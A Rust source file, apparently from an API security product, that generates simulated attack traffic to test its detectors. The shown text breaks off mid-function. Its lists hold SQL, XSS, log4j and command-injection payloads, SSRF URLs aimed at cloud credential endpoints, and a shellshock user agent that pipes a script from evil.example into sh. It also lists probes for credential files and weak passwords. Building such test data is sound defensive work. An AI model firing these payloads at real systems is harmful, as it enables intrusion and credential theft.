//! Attack scenarios: one per detector id, each a generator in the [`SCENARIOS`] registry.

use std::borrow::Cow;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use rampart_model::{ApiEvent, Timestamp};

use crate::benign::{basic, jwt, render, User, BROWSER_UAS};
use crate::rng::Rng;

macro_rules! scenarios {
    ($( $(#[$m:meta])* $v:ident = $id:literal ),+ $(,)?) => {
        /// An attack scenario; one per detector id.
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum Scenario { $( $(#[$m])* $v ),+ }

        impl Scenario {
            /// Every scenario, in registry order.
            pub const ALL: &'static [Scenario] = &[ $( Scenario::$v ),+ ];
            /// The detector id this scenario exercises (`bola`, `credential_stuffing`, ...).
            pub const fn id(self) -> &'static str {
                match self { $( Scenario::$v => $id ),+ }
            }
        }
    };
}

scenarios! {
    /// A burst on one endpoint from many addresses.
    TrafficSpikeEndpoint = "traffic_spike_endpoint",
    /// A flood from one address.
    TrafficSpikeIp = "traffic_spike_ip",
    /// Huge responses (bulk export through a paging parameter).
    LargeResponse = "large_response",
    /// Huge request bodies.
    LargeRequest = "large_request",
    /// Requests that take seconds (wildcard searches).
    LatencySpike = "latency_spike",
    /// Many distinct, mostly non-existent endpoints.
    EndpointSpray = "endpoint_spray",
    /// Sequential id walk on one endpoint.
    ParamEnumeration = "param_enumeration",
    /// An id walk split across many addresses.
    DistributedParamEnumeration = "distributed_param_enumeration",
    /// Parameters whose values change type (number -> string, negative, huge).
    AnomalousParamType = "anomalous_param_type",
    /// Parameters never seen in benign traffic (`debug`, `role`, `__proto__`).
    UnseenParam = "unseen_param",
    /// A user reading other users' objects successfully.
    Bola = "bola",
    /// Many user names against login, few successes.
    CredentialStuffing = "credential_stuffing",
    /// One password against many user names, slowly.
    PasswordSpray = "password_spray",
    /// Many passwords against one user name.
    BruteForce = "brute_force",
    /// Calls without credentials to endpoints that require them, some succeeding.
    UnauthAccess = "unauth_access",
    /// A user's token replayed from many addresses at once (a proxy network).
    LeakedCredential = "leaked_credential",
    /// A non-admin principal calling admin functions.
    FunctionLevelAuthz = "function_level_authz",
    /// Writes that set privileged fields (`role`, `is_admin`, `price`).
    MassAssignment = "mass_assignment",
    /// Unbounded page sizes and expansions.
    ResourceConsumption = "resource_consumption",
    /// A burst of server errors provoked by one client.
    ErrorBurst = "error_burst",
    /// SQL, command, template and log4j injection payloads.
    Injection = "injection",
    /// Server-side request forgery through URL parameters.
    Ssrf = "ssrf",
    /// A vulnerability scanner.
    Scanner = "scanner",
    /// Probes for secrets and backups (`/.env`, `/.git/config`).
    SensitiveFileProbe = "sensitive_file_probe",
    /// Probes for admin consoles.
    AdminProbe = "admin_probe",
    /// Tooling user agents on normal endpoints.
    SuspiciousUserAgent = "suspicious_user_agent",
    /// Odd methods, protocols and path tricks.
    ProtocolAbuse = "protocol_abuse",
    /// Normal-looking calls from an address on a threat-intel feed ([`THREAT_INTEL_IPS`]).
    ThreatIntelIp = "threat_intel_ip",
    /// Normal-looking calls from a Tor exit ([`TOR_EXITS`]).
    TorExit = "tor_exit",
    /// Responses carrying personal data (card numbers, SSNs).
    SensitiveDataExposure = "sensitive_data_exposure",
    /// Stack traces and permissive headers in responses.
    SecurityMisconfig = "security_misconfig",
    /// Calls to undocumented, shadow or old API versions.
    ImproperInventory = "improper_inventory",
    /// Repeated rejected tokens on authenticated endpoints.
    AuthFailures = "auth_failures",
}

impl Scenario {
    /// The scenario with this id.
    pub fn from_id(id: &str) -> Option<Scenario> {
        Scenario::ALL.iter().copied().find(|s| s.id() == id)
    }
    /// Whether the attack is spread over many addresses (evaluated by target endpoint).
    pub const fn is_distributed(self) -> bool {
        matches!(
            self,
            Scenario::TrafficSpikeEndpoint
                | Scenario::DistributedParamEnumeration
                | Scenario::LeakedCredential
                | Scenario::PasswordSpray
        )
    }
    /// For distributed scenarios, the endpoint template they target.
    pub const fn target(self) -> Option<&'static str> {
        match self {
            Scenario::TrafficSpikeEndpoint => Some("/api/v2/products/search"),
            Scenario::DistributedParamEnumeration => Some("/api/v2/users/{id}"),
            Scenario::PasswordSpray => Some("/api/v1/auth/login"),
            _ => None,
        }
    }
    /// Events emitted at strength 1.0.
    pub fn base_events(self) -> u64 {
        def(self).base
    }
}

/// Tor exit addresses the `tor_exit` scenario uses (documentation ranges, for demo feeds).
pub const TOR_EXITS: &[&str] = &[
    "198.51.100.200",
    "198.51.100.201",
    "198.51.100.202",
    "198.51.100.203",
    "2001:db8:70::1",
];

/// Threat-intel addresses the `threat_intel_ip` scenario uses (documentation ranges).
pub const THREAT_INTEL_IPS: &[&str] = &[
    "203.0.113.200",
    "203.0.113.201",
    "203.0.113.202",
    "2001:db8:bad::66",
];

/// Generation state handed to a scenario generator.
pub(crate) struct Ctx<'u> {
    pub rng: Rng,
    /// Current event time, ms.
    pub t: i64,
    /// Events to emit.
    pub n: u64,
    /// The attacker address.
    pub ip: IpAddr,
    /// Addresses of a distributed attack.
    pub pool: Vec<IpAddr>,
    pub users: &'u [User],
    pub host: &'static str,
    pub bodies: bool,
    pub ua: &'static str,
    pub out: Vec<ApiEvent<'static>>,
}

fn service_of(path: &str) -> Option<&'static str> {
    const MAP: &[(&str, &str)] = &[
        ("/auth/", "auth"),
        ("/admin", "admin"),
        ("/users", "users"),
        ("/orders", "orders"),
        ("/cart", "orders"),
        ("/products", "catalog"),
        ("/payments", "payments"),
    ];
    MAP.iter().find(|(k, _)| path.contains(k)).map(|(_, v)| *v)
}

impl<'u> Ctx<'u> {
    /// Push an event at the current time from the attacker; returns it for adjustments.
    fn ev(
        &mut self,
        method: &'static str,
        path: impl Into<Cow<'static, str>>,
        query: impl Into<Cow<'static, str>>,
        status: u16,
    ) -> &mut ApiEvent<'static> {
        let path = path.into();
        let rng = &mut self.rng;
        let resp = if status < 300 {
            rng.lognormal(1500.0, 0.4) as u64
        } else {
            rng.range(40, 220)
        };
        let ev = ApiEvent {
            ts: Timestamp(self.t),
            client_ip: Some(self.ip),
            method: Cow::Borrowed(method),
            scheme: Cow::Borrowed("https"),
            host: Cow::Borrowed(self.host),
            service: service_of(&path).map(Cow::Borrowed),
            path,
            query: query.into(),
            protocol: Cow::Borrowed("HTTP/1.1"),
            status,
            request_bytes: Some(rng.range(200, 600)),
            response_bytes: Some(resp),
            latency_us: Some((rng.lognormal(15.0, 0.5) * 1000.0) as u64),
            user_agent: Cow::Borrowed(self.ua),
            source_format: Cow::Borrowed("sim"),
            ..Default::default()
        };
        let i = self.out.len();
        self.out.push(ev);
        &mut self.out[i]
    }

    /// Advance time by an exponential gap with this mean.
    fn gap(&mut self, mean_ms: f64) {
        self.t += (self.rng.exp1() * mean_ms).max(1.0) as i64;
    }

    /// A benign user (victim or abused account).
    fn user(&mut self) -> &'u User {
        let users = self.users;
        &users[self.rng.below(users.len() as u64) as usize]
    }

    /// A non-admin, browser user (a real account the attacker controls).
    fn browser_user(&mut self) -> &'u User {
        for _ in 0..64 {
            let u = self.user();
            if u.browser && !u.admin {
                return u;
            }
        }
        self.user()
    }

    fn body(&mut self, f: impl FnOnce(&mut Rng) -> String) -> Option<Cow<'static, str>> {
        if self.bodies {
            Some(Cow::Owned(f(&mut self.rng)))
        } else {
            None
        }
    }
}

/// Present a user's own credentials on an event.
fn as_user(ev: &mut ApiEvent<'static>, u: &User) {
    ev.request_headers
        .push((Cow::Borrowed(u.cred.0), Cow::Owned(u.cred.1.clone())));
    ev.principal = Some(Cow::Owned(u.name.clone()));
    ev.authenticated = true;
}

/// Present HTTP Basic credentials on an event (login attempts).
fn as_basic(ev: &mut ApiEvent<'static>, user: &str, password: &str) {
    ev.request_headers.push((
        Cow::Borrowed("authorization"),
        Cow::Owned(basic(user, password)),
    ));
    ev.principal = Some(Cow::Owned(user.to_string()));
    ev.authenticated = true;
}

/// One registry entry.
pub(crate) struct ScenarioDef {
    pub kind: Scenario,
    /// Events at strength 1.0.
    pub base: u64,
    pub gen: fn(&mut Ctx<'_>),
}

/// The registry: every scenario, its default size and its generator.
pub(crate) const SCENARIOS: &[ScenarioDef] = &[
    ScenarioDef {
        kind: Scenario::TrafficSpikeEndpoint,
        base: 3000,
        gen: traffic_spike_endpoint,
    },
    ScenarioDef {
        kind: Scenario::TrafficSpikeIp,
        base: 2500,
        gen: traffic_spike_ip,
    },
    ScenarioDef {
        kind: Scenario::LargeResponse,
        base: 20,
        gen: large_response,
    },
    ScenarioDef {
        kind: Scenario::LargeRequest,
        base: 20,
        gen: large_request,
    },
    ScenarioDef {
        kind: Scenario::LatencySpike,
        base: 40,
        gen: latency_spike,
    },
    ScenarioDef {
        kind: Scenario::EndpointSpray,
        base: 400,
        gen: endpoint_spray,
    },
    ScenarioDef {
        kind: Scenario::ParamEnumeration,
        base: 500,
        gen: param_enumeration,
    },
    ScenarioDef {
        kind: Scenario::DistributedParamEnumeration,
        base: 600,
        gen: distributed_param_enumeration,
    },
    ScenarioDef {
        kind: Scenario::AnomalousParamType,
        base: 60,
        gen: anomalous_param_type,
    },
    ScenarioDef {
        kind: Scenario::UnseenParam,
        base: 60,
        gen: unseen_param,
    },
    ScenarioDef {
        kind: Scenario::Bola,
        base: 80,
        gen: bola,
    },
    ScenarioDef {
        kind: Scenario::CredentialStuffing,
        base: 600,
        gen: credential_stuffing,
    },
    ScenarioDef {
        kind: Scenario::PasswordSpray,
        base: 150,
        gen: password_spray,
    },
    ScenarioDef {
        kind: Scenario::BruteForce,
        base: 300,
        gen: brute_force,
    },
    ScenarioDef {
        kind: Scenario::UnauthAccess,
        base: 120,
        gen: unauth_access,
    },
    ScenarioDef {
        kind: Scenario::LeakedCredential,
        base: 200,
        gen: leaked_credential,
    },
    ScenarioDef {
        kind: Scenario::FunctionLevelAuthz,
        base: 50,
        gen: function_level_authz,
    },
    ScenarioDef {
        kind: Scenario::MassAssignment,
        base: 30,
        gen: mass_assignment,
    },
    ScenarioDef {
        kind: Scenario::ResourceConsumption,
        base: 150,
        gen: resource_consumption,
    },
    ScenarioDef {
        kind: Scenario::ErrorBurst,
        base: 200,
        gen: error_burst,
    },
    ScenarioDef {
        kind: Scenario::Injection,
        base: 120,
        gen: injection,
    },
    ScenarioDef {
        kind: Scenario::Ssrf,
        base: 40,
        gen: ssrf,
    },
    ScenarioDef {
        kind: Scenario::Scanner,
        base: 800,
        gen: scanner,
    },
    ScenarioDef {
        kind: Scenario::SensitiveFileProbe,
        base: 60,
        gen: sensitive_file_probe,
    },
    ScenarioDef {
        kind: Scenario::AdminProbe,
        base: 60,
        gen: admin_probe,
    },
    ScenarioDef {
        kind: Scenario::SuspiciousUserAgent,
        base: 100,
        gen: suspicious_user_agent,
    },
    ScenarioDef {
        kind: Scenario::ProtocolAbuse,
        base: 60,
        gen: protocol_abuse,
    },
    ScenarioDef {
        kind: Scenario::ThreatIntelIp,
        base: 40,
        gen: threat_intel_ip,
    },
    ScenarioDef {
        kind: Scenario::TorExit,
        base: 60,
        gen: tor_exit,
    },
    ScenarioDef {
        kind: Scenario::SensitiveDataExposure,
        base: 30,
        gen: sensitive_data_exposure,
    },
    ScenarioDef {
        kind: Scenario::SecurityMisconfig,
        base: 30,
        gen: security_misconfig,
    },
    ScenarioDef {
        kind: Scenario::ImproperInventory,
        base: 80,
        gen: improper_inventory,
    },
    ScenarioDef {
        kind: Scenario::AuthFailures,
        base: 150,
        gen: auth_failures,
    },
];

pub(crate) fn def(kind: Scenario) -> &'static ScenarioDef {
    // The registry lists every variant in declaration order (checked by a test).
    let d = &SCENARIOS[kind as usize];
    debug_assert_eq!(d.kind, kind, "registry order");
    d
}

/// Events an instance emits at this strength.
pub(crate) fn scaled(kind: Scenario, strength: f64) -> u64 {
    let s = if strength.is_finite() {
        strength.max(0.0)
    } else {
        1.0
    };
    ((def(kind).base as f64 * s).round() as u64).max(1)
}

/// The attacker address of instance `j` of `kind`.
pub(crate) fn attacker_ip(kind: Scenario, j: usize) -> IpAddr {
    let parse = |s: &str| {
        s.parse()
            .unwrap_or(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 1)))
    };
    match kind {
        Scenario::TorExit => parse(TOR_EXITS[j % TOR_EXITS.len()]),
        Scenario::ThreatIntelIp => parse(THREAT_INTEL_IPS[j % THREAT_INTEL_IPS.len()]),
        Scenario::Injection | Scenario::EndpointSpray => IpAddr::V6(Ipv6Addr::new(
            0x2001,
            0xdb8,
            0xbad,
            0,
            0,
            0,
            0,
            (j + 1) as u16,
        )),
        _ => IpAddr::V4(Ipv4Addr::new(203, 0, 113, 10 + (j % 180) as u8)),
    }
}

/// The address pool of a distributed instance `j`.
pub(crate) fn attacker_pool(j: usize) -> Vec<IpAddr> {
    (0..24)
        .map(|k| IpAddr::V4(Ipv4Addr::new(198, 51, 100, 1 + ((j * 24 + k) % 190) as u8)))
        .collect()
}

const TOOL_UA: &str = "python-requests/2.31.0";

fn traffic_spike_endpoint(c: &mut Ctx<'_>) {
    const WORDS: &[&str] = &["gpu", "ps5", "sneakers", "iphone", "limited+edition", "rtx"];
    for _ in 0..c.n {
        c.ip = *c.rng.pick(&c.pool);
        c.ua = *c.rng.pick(BROWSER_UAS);
        let q = format!("q={}", c.rng.pick(WORDS));
        let status = if c.rng.chance(0.1) { 429 } else { 200 };
        c.ev("GET", "/api/v2/products/search", q, status);
        c.gap(200.0);
    }
}

fn traffic_spike_ip(c: &mut Ctx<'_>) {
    c.ua = BROWSER_UAS[0];
    for _ in 0..c.n {
        let id = c.rng.range(1, 5000);
        let status = if c.rng.chance(0.2) { 429 } else { 200 };
        c.ev("GET", render("/api/v2/products/{id}", id), "", status);
        c.gap(100.0);
    }
}

fn large_response(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let q = format!("page=1&limit={}", c.rng.pick(&[50_000, 100_000, 250_000]));
        let bytes = c.rng.range(30_000_000, 90_000_000);
        let ev = c.ev("GET", "/api/v2/orders", q, 200);
        as_user(ev, u);
        ev.response_bytes = Some(bytes);
        ev.latency_us = Some(bytes / 20);
        c.gap(30_000.0);
    }
}

fn large_request(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let bytes = c.rng.range(5_000_000, 20_000_000);
        let status = if c.rng.chance(0.5) { 413 } else { 201 };
        let body = c.body(|r| {
            let mut s = String::from("{\"items\":[");
            while s.len() < 8_000 {
                s.push_str(&format!(
                    "{{\"product_id\":{},\"qty\":1}},",
                    r.range(1, 5000)
                ));
            }
            s.push_str("{\"product_id\":1,\"qty\":1}]}");
            s
        });
        let ev = c.ev("POST", "/api/v2/orders", "", status);
        as_user(ev, u);
        ev.request_bytes = Some(bytes);
        ev.request_body = body;
        c.gap(20_000.0);
    }
}

fn latency_spike(c: &mut Ctx<'_>) {
    c.ua = BROWSER_UAS[2];
    for _ in 0..c.n {
        let stars = "%25".repeat(c.rng.range(20, 60) as usize);
        let q = format!("q={stars}a{stars}");
        let status = if c.rng.chance(0.3) { 504 } else { 200 };
        let lat = c.rng.range(8_000_000, 30_000_000);
        let ev = c.ev("GET", "/api/v2/products/search", q, status);
        ev.latency_us = Some(lat);
        c.gap(15_000.0);
    }
}

const SPRAY_WORDS: &[&str] = &[
    "accounts",
    "billing",
    "invoices",
    "coupons",
    "vouchers",
    "export",
    "import",
    "reports",
    "settings",
    "config",
    "tokens",
    "keys",
    "sessions",
    "audit",
    "logs",
    "backup",
    "files",
    "uploads",
    "webhooks",
    "graphql",
    "jobs",
    "tasks",
    "metrics",
    "health",
    "status",
    "internal",
    "partners",
    "tenants",
    "roles",
    "permissions",
    "groups",
    "teams",
    "search",
    "inventory",
    "shipping",
    "refunds",
    "returns",
    "notifications",
    "messages",
    "support",
];

fn endpoint_spray(c: &mut Ctx<'_>) {
    c.ua = BROWSER_UAS[5];
    for i in 0..c.n {
        let w = SPRAY_WORDS[i as usize % SPRAY_WORDS.len()];
        let v = ["v1", "v2", "v3"][(i as usize / SPRAY_WORDS.len()) % 3];
        let path = if i as usize >= SPRAY_WORDS.len() * 3 {
            format!("/api/{v}/{w}/{}", c.rng.pick(SPRAY_WORDS))
        } else {
            format!("/api/{v}/{w}")
        };
        let status = if c.rng.chance(0.9) { 404 } else { 401 };
        c.ev("GET", path, "", status);
        c.gap(300.0);
    }
}

fn param_enumeration(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = TOOL_UA;
    let first = c.rng.range(1_000, 20_000);
    for i in 0..c.n {
        let status = if c.rng.chance(0.7) { 403 } else { 404 };
        let ev = c.ev("GET", render("/api/v2/orders/{id}", first + i), "", status);
        as_user(ev, u);
        c.gap(150.0);
    }
}

fn distributed_param_enumeration(c: &mut Ctx<'_>) {
    c.ua = TOOL_UA;
    let first = c.rng.range(1, 500);
    let pool = c.pool.len() as u64;
    for i in 0..c.n {
        c.ip = c.pool[(i % pool) as usize];
        let status = if c.rng.chance(0.6) { 200 } else { 404 };
        c.ev("GET", render("/api/v2/users/{id}", first + i), "", status);
        c.gap(400.0);
    }
}

fn anomalous_param_type(c: &mut Ctx<'_>) {
    const Q: &[&str] = &[
        "page=abc&limit=20",
        "page=1&limit=-1",
        "page=1e309&limit=20",
        "page=%27&limit=20",
        "page=1&limit=twenty",
        "page=null&limit=%5B%5D",
        "page=0x41&limit=20",
        "page=1&limit=99999999999999999999",
    ];
    c.ua = BROWSER_UAS[1];
    for _ in 0..c.n {
        let q = *c.rng.pick(Q);
        let status = if c.rng.chance(0.8) { 400 } else { 500 };
        c.ev("GET", "/api/v2/products", q, status);
        c.gap(5_000.0);
    }
}

fn unseen_param(c: &mut Ctx<'_>) {
    const Q: &[&str] = &[
        "status=open&debug=true",
        "admin=1",
        "role=admin",
        "__proto__%5BisAdmin%5D=true",
        "internal=1&include_deleted=true",
        "fields=password_hash",
        "test_mode=1",
        "user_id=1&impersonate=true",
    ];
    let u = c.browser_user();
    c.ua = u.ua;
    for _ in 0..c.n {
        let q = *c.rng.pick(Q);
        let ev = c.ev("GET", "/api/v2/orders", q, 200);
        as_user(ev, u);
        c.gap(5_000.0);
    }
}

fn bola(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = u.ua;
    for _ in 0..c.n {
        let victim = c.user();
        let id = victim.own_object(&mut c.rng);
        let path = render("/api/v2/orders/{id}", id);
        let body = c.body(|r| {
            format!(
                "{{\"id\":{id},\"user_id\":{},\"status\":\"shipped\",\"total\":{}.50,\"shipping_address\":\"1 Main St\"}}",
                victim.id,
                r.range(5, 400)
            )
        });
        let ev = c.ev("GET", path, "", 200);
        as_user(ev, u);
        ev.response_body = body;
        c.gap(5_000.0);
    }
}

const PASSWORDS: &[&str] = &[
    "123456",
    "password",
    "qwerty123",
    "Summer2025!",
    "Welcome1",
    "letmein",
    "P@ssw0rd",
    "iloveyou",
    "admin123",
    "Winter2025!",
];

fn login(c: &mut Ctx<'_>, user: &str, password: &str, ok: bool) {
    let ev = c.ev("POST", "/api/v1/auth/login", "", if ok { 200 } else { 401 });
    as_basic(ev, user, password);
    ev.latency_us = Some(ev.latency_us.unwrap_or(0) + 80_000);
}

fn credential_stuffing(c: &mut Ctx<'_>) {
    c.ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36";
    for i in 0..c.n {
        let name = if c.rng.chance(0.5) {
            c.user().name.clone()
        } else {
            format!("user{}@mail.example", c.rng.range(1000, 999_999))
        };
        let pw = format!("leak-{i:05}");
        let ok = c.rng.chance(0.02);
        login(c, &name, &pw, ok);
        c.gap(500.0);
    }
}

fn password_spray(c: &mut Ctx<'_>) {
    c.ua = BROWSER_UAS[2];
    let pw = *c.rng.pick(PASSWORDS);
    let users = c.users;
    let start = c.rng.below(users.len() as u64) as usize;
    let n = c.n;
    // A spray rotates through an address pool so that no source crosses a per-IP threshold.
    let pool = c.pool.clone();
    for i in 0..n {
        c.ip = pool[i as usize % pool.len()];
        let name = users[(start + i as usize) % users.len()].name.clone();
        login(c, &name, pw, i + 1 == n);
        c.gap(20_000.0);
    }
}

fn brute_force(c: &mut Ctx<'_>) {
    c.ua = "Hydra";
    let victim = c.user().name.clone();
    let n = c.n;
    for i in 0..n {
        let pw = format!("{}{}", PASSWORDS[i as usize % PASSWORDS.len()], i);
        login(c, &victim, &pw, i + 1 == n);
        c.gap(1_000.0);
    }
}

fn unauth_access(c: &mut Ctx<'_>) {
    const T: &[&str] = &[
        "/api/v2/orders/{id}",
        "/api/v2/users/{id}",
        "/api/v2/payments/{id}",
    ];
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let t = *c.rng.pick(T);
        let path = render(t, c.rng.range(10, 50_000));
        let status = if c.rng.chance(0.25) { 200 } else { 401 };
        c.ev("GET", path, "", status);
        c.gap(3_000.0);
    }
}

fn leaked_credential(c: &mut Ctx<'_>) {
    let victim = c.browser_user();
    c.ua = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
    // The stolen session is replayed through a proxy network: 40 addresses of their own
    // (IPv6 documentation space, apart from every other scenario's pool).
    let proxies: Vec<IpAddr> = (0..40u16)
        .map(|k| IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, 0x1ea, 0, 0, 0, 0, 0x100 + k)))
        .collect();
    for _ in 0..c.n {
        c.ip = *c.rng.pick(&proxies);
        let (m, path, q) = match c.rng.below(4) {
            0 => ("GET", "/api/v2/orders".into(), "status=open"),
            1 => (
                "GET",
                render("/api/v2/users/{id}", u64::from(victim.id)),
                "expand=items",
            ),
            2 => (
                "GET",
                render("/api/v2/payments/{id}", victim.own_object(&mut c.rng)),
                "",
            ),
            _ => ("GET", "/api/v2/cart".into(), ""),
        };
        let ev = c.ev(m, path, q, 200);
        as_user(ev, victim);
        c.gap(2_000.0);
    }
}

fn function_level_authz(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = u.ua;
    for _ in 0..c.n {
        let status = if c.rng.chance(0.8) { 403 } else { 200 };
        let id = c.rng.range(1, 5000);
        let (m, path): (&'static str, Cow<'static, str>) = match c.rng.below(4) {
            0 => ("GET", "/api/v2/admin/users".into()),
            1 => ("GET", "/api/v2/admin/metrics".into()),
            2 => ("DELETE", render("/api/v2/users/{id}", id).into()),
            _ => ("POST", format!("/api/v2/admin/users/{id}/role").into()),
        };
        let ev = c.ev(m, path, "", status);
        as_user(ev, u);
        c.gap(4_000.0);
    }
}

fn mass_assignment(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = u.ua;
    for _ in 0..c.n {
        let (m, path, body): (&'static str, String, &str) = if c.rng.chance(0.6) {
            (
                "PATCH",
                render("/api/v2/users/{id}", u64::from(u.id)),
                "{\"display_name\":\"x\",\"role\":\"admin\",\"is_admin\":true,\"email_verified\":true,\"credit_balance\":99999}",
            )
        } else {
            (
                "POST",
                "/api/v2/orders".to_string(),
                "{\"items\":[{\"product_id\":42,\"qty\":1,\"price\":0.01}],\"status\":\"paid\",\"discount_pct\":100}",
            )
        };
        let body = c.body(|_| body.to_string());
        let ev = c.ev(m, path, "", 200);
        as_user(ev, u);
        ev.request_body = body;
        c.gap(10_000.0);
    }
}

fn resource_consumption(c: &mut Ctx<'_>) {
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let q = format!(
            "page={}&limit={}&expand=items,reviews,variants,related",
            c.rng.range(1, 50),
            c.rng.pick(&[10_000, 50_000, 1_000_000])
        );
        let bytes = c.rng.range(2_000_000, 8_000_000);
        let lat = c.rng.range(2_000_000, 6_000_000);
        let ev = c.ev("GET", "/api/v2/products", q, 200);
        ev.response_bytes = Some(bytes);
        ev.latency_us = Some(lat);
        c.gap(2_000.0);
    }
}

fn error_burst(c: &mut Ctx<'_>) {
    let u = c.browser_user();
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let status = *c.rng.pick(&[500, 500, 500, 502, 503]);
        let ev = c.ev("POST", "/api/v2/payments", "", status);
        as_user(ev, u);
        c.gap(600.0);
    }
}

const INJECTIONS: &[&str] = &[
    "q=%27%20OR%201%3D1--",
    "q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
    "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "q=%3B%20cat%20%2Fetc%2Fpasswd",
    "q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    "q=%7B%7B7*7%7D%7D",
    "q=1%27%20AND%20SLEEP(5)--",
    "q=%7C%7C%20ping%20-c%2010%20127.0.0.1",
    "q=..%2F..%2F..%2Fetc%2Fpasswd",
    "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
];

fn injection(c: &mut Ctx<'_>) {
    c.ua = BROWSER_UAS[0];
    for _ in 0..c.n {
        let q = *c.rng.pick(INJECTIONS);
        let status = *c.rng.pick(&[200, 400, 500]);
        c.ev("GET", "/api/v2/products/search", q, status);
        c.gap(2_000.0);
    }
}

fn ssrf(c: &mut Ctx<'_>) {
    const URLS: &[&str] = &[
        "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
        "http%3A%2F%2F127.0.0.1%3A6379%2F",
        "http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F",
        "file%3A%2F%2F%2Fetc%2Fpasswd",
        "http%3A%2F%2F10.0.0.1%3A8500%2Fv1%2Fagent%2Fself",
        "gopher%3A%2F%2F127.0.0.1%3A25%2F",
    ];
    let u = c.browser_user();
    c.ua = TOOL_UA;
    for _ in 0..c.n {
        let url = *c.rng.pick(URLS);
        let status = *c.rng.pick(&[200, 400, 502]);
        let (path, q) = if c.rng.chance(0.5) {
            ("/api/v2/webhooks", format!("url={url}"))
        } else {
            ("/api/v2/products/import", format!("source_url={url}"))
        };
        let body = c.body(|_| format!("{{\"callback_url\":\"{url}\"}}"));
        let ev = c.ev("POST", path, q, status);
        as_user(ev, u);
        ev.request_body = body;
        c.gap(8_000.0);
    }
}

const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 zgrab/0.x",
];
const SCANNER_PATHS: &[&str] = &[
    "/",
    "/robots.txt",
    "/sitemap.xml",
    "/api",
    "/api/swagger.json",
    "/swagger-ui.html",
    "/openapi.json",
    "/v2/api-docs",
    "/graphql",
    "/cgi-bin/test.cgi",
    "/index.php",
    "/wp-login.php",
    "/xmlrpc.php",
    "/.well-known/security.txt",
    "/api/v1/status",
    "/actuator/health",
    "/console/",
    "/solr/admin/",
    "/jenkins/login",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/api/jsonws/invoke",
    "/_ignition/execute-solution",
    "/owa/auth/logon.aspx",
];

fn scanner(c: &mut Ctx<'_>) {
    c.ua = *c.rng.pick(SCANNER_UAS);
    for i in 0..c.n {
        let p = SCANNER_PATHS[i as usize % SCANNER_PATHS.len()];
        let path: Cow<'static, str> = if i as usize >= SCANNER_PATHS.len() {
            {
                let round = i as usize / SCANNER_PATHS.len() - 1;
                let suffix = ["/", ".bak", "~", ".old", ".orig"][round % 5];
                match p.trim_end_matches('/') {
                    "" => format!("/index.html{suffix}").into(),
                    base => format!("{base}{suffix}").into(),
                }
            }
        } else {
            p.into()
        };
        let status = if c.rng.chance(0.9) { 404 } else { 403 };
        c.ev("GET", path, "", status);
        c.gap(80.0);
    }
}

fn sensitive_file_probe(c: &mut Ctx<'_>) {
    const FILES: &[&str] = &[
        "/.env",
        "/.git/config",
        "/.git/HEAD",
        "/.aws/credentials",
        "/config.json",
        "/backup.sql",
        "/db.sqlite",
        "/.DS_Store",
        "/id_rsa",
        "/.ssh/id_rsa",
        "/web.config",
        "/wp-config.php.bak",
        "/.htpasswd",
        "/server-status",
        "/actuator/env",
        "/.npmrc",
        "/docker-compose.yml",
        "/api/.env",
        "/dump.sql",
        "/.svn/entries",
    ];
    c.ua = TOOL_UA;
    for i in 0..c.n {
        let p = FILES[i as usize % FILES.len()];
        let status = if c.rng.chance(0.85) { 404 } else { 403 };
        c.ev("GET", p, "", status);
        c.gap(700.0);
    }
}

fn admin_probe(c: &mut Ctx<'_>) {
    const PATHS: &[&str] = &[
        "/admin",
        "/admin/",
        "/administrator/",
        "/wp-admin/",
        "/phpmyadmin/",
        "/manager/html",
        "/api/admin",
        "/api/v1/admin",
        "/api/v2/admin/config",
        "/admin/login",
        "/console",
        "/adminer.php",
        "/_admin",
        "/backoffice",
        "/api/v2/admin/users/export",
    ];
    c.ua = BROWSER_UAS[3];
    for i in 0..c.n {
        let p = PATHS[i as usize % PATHS.len()];
        let status = *c.rng.pick(&[401, 403, 404, 404]);
        c.ev("GET", p, "", status);
        c.gap(1_500.0);
    }
}

fn suspicious_user_agent(c: &mut Ctx<'_>) {
    const UAS: &[&str] = &[
        "",
        "Go-http-client/1.1",
        "libwww-perl/6.67",
        "Java/1.8.0_291",
        "() { :; }; /bin/bash -c \"curl http://evil.example/x.sh | sh\"",
        "curl/7.88.1",
        "Wget/1.21.3",
        "Python-urllib/3.11",
    ];
    for _ in 0..c.n {
        c.ua = *c.rng.pick(UAS);
        let id = c.rng.range(1, 5000);
        c.ev("GET", render("/api/v2/products/{id}", id), "", 200);
        c.gap(3_000.0);
    }
}

fn protocol_abuse(c: &mut Ctx<'_>) {
    c.ua = "";
    for _ in 0..c.n {
        let (m, p, proto, status): (&'static str, &'static str, &'static str, u16) =
            match c.rng.below(6) {
